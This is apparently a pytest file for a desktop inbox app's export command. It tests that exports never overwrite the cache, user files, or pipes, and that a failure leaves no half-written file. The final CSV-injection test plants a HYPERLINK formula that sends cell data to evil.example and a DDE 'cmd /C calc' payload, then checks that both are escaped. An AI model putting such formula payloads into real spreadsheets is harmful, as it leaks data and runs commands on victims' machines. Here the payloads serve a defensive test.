"""An export never destroys anything: not the cache, not a file the user has.

Issue 19: ``export --output DATA/cache.sqlite3`` once wrote over the live
cache and reported success. Export refuses every place inside the data
folder, refuses an existing file unless ``--force``, and writes through a
temporary file renamed into place, so a failure leaves nothing half-written.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_inbox.services import destination
from tests.helpers.mastodon import World


def _synced(world: World, cli) -> int:  # type: ignore[no-untyped-def]
    world.server.post(world.anna, "@shop my sandals broke after a week, order #5521 " + "please help " * 40)
    world.server.post(world.bob, "@shop 请联系客户服务部门")
    assert cli("accounts", "add", "mastodon", "--instance", world.url, "--token-stdin", stdin=world.token + "\n").code == 0
    assert cli("sync", "--once").code == 0
    return len(json.loads(cli("conversations", "--json").out))


def _digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


def _sound(cache: Path) -> bool:
    with sqlite3.connect(cache) as db:
        return db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.mark.parametrize("force", [False, True])
def test_export_refuses_every_file_of_the_data_folder(world: World, cli, data_dir: Path, force: bool) -> None:  # type: ignore[no-untyped-def]
    count = _synced(world, cli)
    cache = data_dir / "cache.sqlite3"
    targets = [
        cache,
        data_dir / "cache.sqlite3-wal",
        data_dir / "cache.sqlite3-shm",
        data_dir / "logs" / "desktop-inbox.log",
        data_dir / "backups" / "mine.sqlite3",
        data_dir / "new-export.json",
        data_dir / "logs" / ".." / "cache.sqlite3",  # the same file, spelt another way
    ]
    link = data_dir.parent / "link-to-cache"
    link.symlink_to(cache)
    targets.append(link)
    before = {t: _digest(t) for t in targets}
    for target in targets:
        extra = ["--force"] if force else []
        result = cli("export", "--query", "sandals", "--format", "json", "--output", str(target), *extra)
        assert result.code == 2, (target, result)
        assert "inside the data folder" in result.err and result.err.count("\n") == 1, result.err
        assert result.out == ""
    assert {t: _digest(t) for t in targets} == before
    assert not list(data_dir.rglob("*.part"))
    assert _sound(cache)
    assert len(json.loads(cli("conversations", "--json").out)) == count


def test_export_refuses_an_existing_file_unless_forced(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _synced(world, cli)
    mine = tmp_path / "report.csv"
    mine.write_text("my own spreadsheet\n")
    refused = cli("export", "--query", "sandals", "--format", "csv", "--output", str(mine))
    assert refused.code == 2 and "already exists" in refused.err and "--force" in refused.err
    assert mine.read_text() == "my own spreadsheet\n"
    replaced = cli("export", "--query", "sandals", "--format", "csv", "--output", str(mine), "--force")
    assert replaced.code == 0, replaced
    assert "order #5521" in mine.read_text()
    assert mine.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda base: base / "missing" / "x.json", "does not exist"),
        (lambda base: base, "is a folder"),
        (lambda base: (base / "afile").touch() or base / "afile" / "x.json", "is a file, not a folder"),
    ],
    ids=["missing-folder", "a-folder", "file-as-folder"],
)
def test_export_to_an_impossible_place_is_one_line(world: World, cli, tmp_path: Path, make, words: str) -> None:  # type: ignore[no-untyped-def]
    _synced(world, cli)
    base = tmp_path / "out"
    base.mkdir()
    result = cli("export", "--query", "sandals", "--format", "html", "--output", str(make(base)))
    assert result.code == 2 and words in result.err and result.err.count("\n") == 1, result


def test_export_never_replaces_a_device_or_a_pipe(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _synced(world, cli)
    pipe = tmp_path / "a-pipe"
    os.mkfifo(pipe)
    for extra in ([], ["--force"]):
        result = cli("export", "--query", "sandals", "--format", "json", "--output", str(pipe), *extra)
        assert result.code == 2 and "not a regular file" in result.err, result
        assert pipe.is_fifo()
        backup = cli("backup", "--output", str(pipe), *extra)
        assert backup.code == 2 and "not a regular file" in backup.err, backup
        assert pipe.is_fifo()


@pytest.fixture
def tiny_filesystem(tmp_path: Path) -> Iterator[Path]:
    """A real filesystem with almost no room left (a tmpfs: needs root)."""
    root = tmp_path / "tiny"
    root.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.fail("this test mounts a tmpfs: run it as root (as CI does)")
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(root)], check=False, capture_output=True)
    if mounted.returncode != 0:
        pytest.fail(f"could not mount a tmpfs: {mounted.stderr!r}")
    try:
        yield root
    finally:
        subprocess.run(["umount", "-l", str(root)], check=False)


def test_a_full_disk_leaves_the_old_file_and_no_half_export(world: World, cli, tiny_filesystem: Path) -> None:  # type: ignore[no-untyped-def]
    _synced(world, cli)
    old = tiny_filesystem / "anna.html"
    old.write_text("last week's export\n")
    # Fill the rest of the filesystem.
    fd = os.open(tiny_filesystem / "filler", os.O_WRONLY | os.O_CREAT)
    try:
        while os.write(fd, b"\0" * 512):
            pass
    except OSError as exc:
        assert exc.errno == errno.ENOSPC
    finally:
        os.close(fd)
    result = cli("export", "--query", "sandals", "--format", "html", "--output", str(old), "--force")
    assert result.code == 1 and "disk is full" in result.err, result
    assert old.read_text() == "last week's export\n"
    assert sorted(p.name for p in tiny_filesystem.iterdir()) == ["anna.html", "filler"]


def test_a_failure_after_writing_leaves_nothing(world: World, cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _synced(world, cli)

    def no_room(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(destination.os, "fsync", no_room)
    target = tmp_path / "new.pdf"
    result = cli("export", "--query", "sandals", "--format", "pdf", "--output", str(target))
    assert result.code == 1 and "disk is full" in result.err, result
    assert list(tmp_path.glob("*new.pdf*")) == []


def test_csv_cells_never_start_a_formula(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """OWASP's CSV injection: a customer's name or words that a spreadsheet
    would run as a formula are written so that it shows them as text."""
    import csv

    evil = world.server.add_account("mallory", '=HYPERLINK("http://evil.example/?"&A2,"Refund form")')
    world.server.post(evil, "@shop -2+3 refunds please")
    world.server.post(evil, "@shop @SUM(1+1)*cmd|' /C calc'!A0")
    assert cli("accounts", "add", "mastodon", "--instance", world.url, "--token-stdin", stdin=world.token + "\n").code == 0
    assert cli("sync", "--once").code == 0
    out = tmp_path / "all.csv"
    assert cli("export", "--query", "from:mallory", "--format", "csv", "--output", str(out)).code == 0
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["author_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A2,"Refund form")'
    assert {r["text"] for r in rows} == {"'@shop -2+3 refunds please", "'@shop @SUM(1+1)*cmd|' /C calc'!A0"}
